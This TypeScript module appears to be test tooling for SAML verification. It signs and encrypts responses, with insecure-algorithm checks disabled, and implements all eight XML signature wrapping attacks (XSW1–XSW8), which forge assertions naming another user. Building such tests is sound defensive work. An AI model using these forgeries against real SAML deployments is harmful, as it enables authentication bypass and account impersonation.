import { createPublicKey } from 'node:crypto';
import { promisify } from 'node:util';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import { encrypt as encryptXml } from 'xml-encryption';

/** What an attacker makes of a valid response: by text, or element by element. */

const ENVELOPED = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';
const EXCLUSIVE = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const SIGNATURE = /<Signature [\s\S]*?<\/Signature>/g;

export const withoutSignature = (xml: string) => xml.replace(SIGNATURE, '');

export type Signing = {
  key: string;
  certificate: string;
  of?: 'Assertion' | 'Response';
  signatureAlgorithm?: string;
  digestAlgorithm?: string;
  canonicalizationAlgorithm?: string;
  transforms?: string[];
  hmac?: boolean;
};

/** Signs the first element of that name, as a provider does that knows the key. */
export function signed(
  xml: string,
  { key, certificate, of = 'Assertion', hmac = false, ...more }: Signing,
): string {
  const signer = new SignedXml({
    privateKey: key,
    publicCert: certificate,
    idAttribute: 'ID',
    signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    canonicalizationAlgorithm: EXCLUSIVE,
    ...more,
  } as ConstructorParameters<typeof SignedXml>[0]);
  if (hmac) signer.enableHMAC();
  const xpath = `(//*[local-name(.)='${of}'])[1]`;
  signer.addReference({
    xpath,
    transforms: more.transforms ?? [ENVELOPED, EXCLUSIVE],
    digestAlgorithm: more.digestAlgorithm ?? 'http://www.w3.org/2001/04/xmlenc#sha256',
  });
  signer.computeSignature(xml, {
    location: { reference: `${xpath}/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return signer.getSignedXml();
}

type Options = Parameters<typeof encryptXml>[1];
export type Encrypting = {
  certificate: string;
  cipher?: Options['encryptionAlgorithm'];
  keyCipher?: Options['keyEncryptionAlgorithm'];
};

const encryptAsync = promisify(encryptXml);

/** Encrypts something into an `EncryptedAssertion`. */
export async function encrypted(
  xml: string,
  { certificate, cipher, keyCipher }: Encrypting,
): Promise<string> {
  const data = await encryptAsync(xml, {
    rsa_pub: createPublicKey(certificate).export({ type: 'spki', format: 'pem' }).toString(),
    pem: certificate,
    encryptionAlgorithm: cipher ?? 'http://www.w3.org/2009/xmlenc11#aes256-gcm',
    keyEncryptionAlgorithm: keyCipher ?? 'http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p',
    disallowEncryptionWithInsecureAlgorithm: false,
    warnInsecureAlgorithm: false,
  });
  return `<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">${data}</saml:EncryptedAssertion>`;
}

/** The assertion of a response, as text. */
export const assertionOf = (xml: string) => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';

export type Parts = { document: Document; response: Element; assertion: Element; signature: Element };

/** Changes a response element by element. */
export function rebuilt(xml: string, change: (parts: Parts) => void): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const [assertion] = Array.from(response.getElementsByTagNameNS('*', 'Assertion'));
  const [signature] = Array.from(response.getElementsByTagNameNS('*', 'Signature'));
  if (!assertion || !signature) throw new Error('There is nothing to change.');
  change({ document, response, assertion, signature });
  return new XMLSerializer().serializeToString(document);
}

/** A copy that names somebody else, under another ID, without the signature. */
export function evil(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.setAttribute('ID', '_evil');
  for (const signature of Array.from(copy.getElementsByTagNameNS('*', 'Signature')))
    signature.parentNode?.removeChild(signature);
  for (const nested of Array.from(copy.getElementsByTagNameNS('*', 'Assertion')))
    nested.setAttribute('ID', '_evil-assertion');
  for (const name of Array.from(copy.getElementsByTagNameNS('*', 'NameID'))) name.textContent = 'olga';
  return copy;
}

function without(element: Element, child: Element): Element {
  const copy = element.cloneNode(true) as Element;
  for (const each of Array.from(copy.getElementsByTagNameNS('*', child.localName)))
    each.parentNode?.removeChild(each);
  return copy;
}

/**
 * The eight signature wrapping attacks (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012), as SAML Raider
 * numbers them. The first two are for a signed response, the others for a signed assertion.
 */
export const wrappings: Record<`XSW${1 | 2 | 3 | 4 | 5 | 6 | 7 | 8}`, (parts: Parts) => void> = {
  XSW1: ({ document, response, signature }) => {
    const original = without(response, signature);
    const forged = evil(response);
    const enveloping = signature.cloneNode(true) as Element;
    enveloping.appendChild(original);
    forged.insertBefore(enveloping, forged.childNodes[1] ?? null);
    document.replaceChild(forged, response);
  },
  XSW2: ({ document, response, signature }) => {
    const original = without(response, signature);
    const forged = evil(response);
    forged.insertBefore(signature.cloneNode(true), forged.childNodes[1] ?? null);
    forged.insertBefore(original, forged.childNodes[1] ?? null);
    document.replaceChild(forged, response);
  },
  XSW3: ({ response, assertion }) => {
    response.insertBefore(evil(assertion), assertion);
  },
  XSW4: ({ response, assertion }) => {
    const forged = evil(assertion);
    response.replaceChild(forged, assertion);
    forged.appendChild(assertion);
  },
  XSW5: ({ response, assertion, signature }) => {
    const original = without(assertion, signature);
    const forged = evil(assertion);
    forged.insertBefore(signature.cloneNode(true), forged.childNodes[1] ?? null);
    response.replaceChild(forged, assertion);
    response.appendChild(original);
  },
  XSW6: ({ response, assertion, signature }) => {
    const original = without(assertion, signature);
    const forged = evil(assertion);
    const enveloping = signature.cloneNode(true) as Element;
    enveloping.appendChild(original);
    forged.insertBefore(enveloping, forged.childNodes[1] ?? null);
    response.replaceChild(forged, assertion);
  },
  XSW7: ({ document, response, assertion }) => {
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    extensions.appendChild(evil(assertion));
    response.insertBefore(extensions, assertion);
  },
  XSW8: ({ document, response, assertion, signature }) => {
    const original = without(assertion, signature);
    const forged = evil(assertion);
    const enveloping = signature.cloneNode(true) as Element;
    const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'Object');
    object.appendChild(original);
    enveloping.appendChild(object);
    forged.insertBefore(enveloping, forged.childNodes[1] ?? null);
    response.replaceChild(forged, assertion);
  },
};
